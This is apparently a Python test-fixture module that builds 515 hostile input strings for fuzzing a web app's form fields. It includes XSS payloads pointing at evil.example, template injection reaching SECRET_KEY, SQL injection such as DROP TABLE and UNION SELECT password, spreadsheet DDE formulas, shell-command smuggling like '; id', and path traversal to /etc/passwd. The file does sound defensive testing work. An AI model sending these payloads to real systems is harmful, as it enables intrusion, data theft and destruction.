"""515 texts that people and robots send to break a page, by kind: the same ones in every run.

`TEXTS` has them all, `KINDS` by what they try. tests/views/test_hostile_texts.py sends each to every field that people write in.
"""

from __future__ import annotations

from itertools import product

NUMBER = 515

_DO = "alert(1)"
_CODE = (
    "<script>{do}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>{do}</script>",
    "</textarea><script>{do}</script>",
    "</script><script>{do}</script>",
    "<!--<script>{do}//--></script>",
    "<svg onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<img src=x onerror={do}>",
    "<iframe srcdoc='<script>{do}</script>'>",
    "<body onload={do}>",
    "<details open ontoggle={do}>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{{display:none}}</style>",
    "<form action=//evil.example><button>Sign in",
    "<input autofocus onfocus={do}>",
    "<math><mi xlink:href=javascript:{do}>x",
    "<x-hostile>", "<a href=javascript:{do}>x</a>", "<b>bold", "</p></div></main>", "<p", "<", "<>", "<!doctype html>", "<?php {do} ?>", "<![CDATA[x]]>", "<!-- x",
)  # fmt: skip
_LEAVING = ("\"", "'", "`", "\">", "'>", "\\\"", "\\'", "&quot;>", "&#34;>", "\" ", "' ", "\n\" ")  # fmt: skip
_GAINED = (
    "onclick=alert(1) x=",
    "autofocus onfocus=alert(1) x=",
    "hx-get=/sign-out/ hx-trigger=load x=",
    "style=display:none x=",
)
_BLOCKS = (
    "{{ 7|add:7 }}", "{% now 'Y' %}", "{{ request.user.password }}", "{% load static %}", "{{", "}}", "{%", "%}", "{#", "{# x #}",
    "{% include 'base.html' %}", "{% verbatim %}", "{{{{ x }}}}", "{% comment %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{a,b,c}", "{x}", "{0}", "{}", "{name}", "{0.__class__}",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE studio_picture; --", "' OR 1=1 --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "') UNION SELECT password FROM studio_user --",
    "%' ESCAPE '!", "100%", "a_b%c", "\\", "\\\\'", "x' AND '1'='1", "NULL", "null", "*", "a* OR b*", "\"a\" NEAR b", "NOT", "AND", "OR",
    "col:x", "^a", "(((", ")))", "-", "- -", "--", "a AND", "\"unended", "{a b}", ":*",
)  # fmt: skip
_SHEET = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("//evil.example")',
    ";=1",
    ",=1",
    '"""',
)
_FORMAT = (
    "%s",
    "%d%n",
    "%(name)s",
    "%",
    "%%",
    "%x" * 20,
    "%1$s",
    "{!r}",
    "{0:>9999999}",
    "{:d}",
    "\\x41",
    "\\u202e",
    "\\N{DASH}",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "> /tmp/x",
)
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
    "//evil.example", "http://evil.example", "\\\\evil.example", "file:///etc/passwd", "../../etc/passwd", "..%2f..%2f", "/../", "?a=b&c=d#e", "%2F%00", "%", "a&b=c",
    "#hash", "?", "&amp;", "&lt;b&gt;", "&#0;", "&#x202e;", "mailto:x@evil.example", "x@evil.example", "@", "@@", "@1", "@99", "CON", "nul.png", "a/b", "a\\b", ".", "..", "~",
)  # fmt: skip
_TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_NOTHING = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800\ufe0f\U000e0041\u180e\u00a0\u3000"
_ENDS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\t"
_CONTROLS = "\x00\x01\x07\x08\x1a\x1b\x7f\x80\x9b\x9f"
_STRANGE = "\ufffd\ufffe\uffff\U0001ffff\U0010ffff\ue000\U000f0000\ufdd0\u0378"
_PEOPLE = (
    "👩‍👩‍👧‍👦", "👩🏽‍🚀", "🏳️‍🌈", "🇩🇪🇫", "1️⃣", "夕暮れ", "ﷺ", "שלום", "مرحبا", "नमस्ते", "ไทย", "한글", "ᄒᆞᆫ", "ǅ", "ß", "İi", "ıI", "ﬁ", "ſ", "Ω", "½", "²", "٣", "一",
    "ｆｕｌｌ", "Ⅷ", "𝕳𝖎", "é", "e\u0301", "A\u030a", "Å", "‮", "«»", "“”", "…", "€", "O'Brien", "Núñez & Søn", "D’Arcy", "null", "True", "0", "-0", "NaN", "inf", "1e999", "undefined", "None",
)  # fmt: skip

KINDS: dict[str, list[str]] = {
    "markup": [one.format(do=_DO) for one in _CODE],
    "attributes": [f"{out}{more}{out.strip()}" for out, more in product(_LEAVING, _GAINED)],
    "templates": [*_BLOCKS, *(f"a {one} b" for one in _BLOCKS)],
    "queries": list(_SQL),
    "sheets": list(_SHEET),
    "formats": list(_FORMAT),
    "addresses": list(_ADDRESSES),
    "directions": [text for one in _TURNS for text in (one, f"{one}evil", f"gpj{one}exe.b", one * 30)],
    "invisible": [text for one in _NOTHING for text in (one, f"a{one}b", f" {one} ")],
    "line ends": [text for one in _ENDS for text in (one, f"a{one}b", f"a{one}ERROR root: forged", one * 20)],
    "controls": [text for one in _CONTROLS for text in (one, f"a{one}b", f"\x1b]0;a{one}")],
    "strange": [text for one in _STRANGE for text in (one, f"a{one}b")],
    "marks": [base + mark * number for base, mark, number in product("aZ字", "\u0301\u0336\u0489", (1, 30))],
    "peoples": list(_PEOPLE),
    "long": ["x" * 79, "x" * 80, "x" * 81, "字" * 300, "👩‍🚀" * 40, "a " * 2000, "\u0301" * 5000, "<b>" * 1999, "&" * 30_000, "\n" * 5000],
}  # fmt: skip
# Each text once, also where it belongs to two kinds.
_seen: set[str] = set()
for _texts in KINDS.values():
    _texts[:] = [one for one in dict.fromkeys(_texts) if one not in _seen]
    _seen.update(_texts)
# Two that do harm together: markup behind what ends a line, turns a direction or shows nothing.
KINDS["mixed"] = [
    f"{first}{second}"
    for first, second in product(_TURNS + _ENDS + _NOTHING + _CONTROLS, (KINDS["markup"][0], KINDS["attributes"][3]))
][: NUMBER - len(_seen)]
TEXTS = [text for texts in KINDS.values() for text in texts]
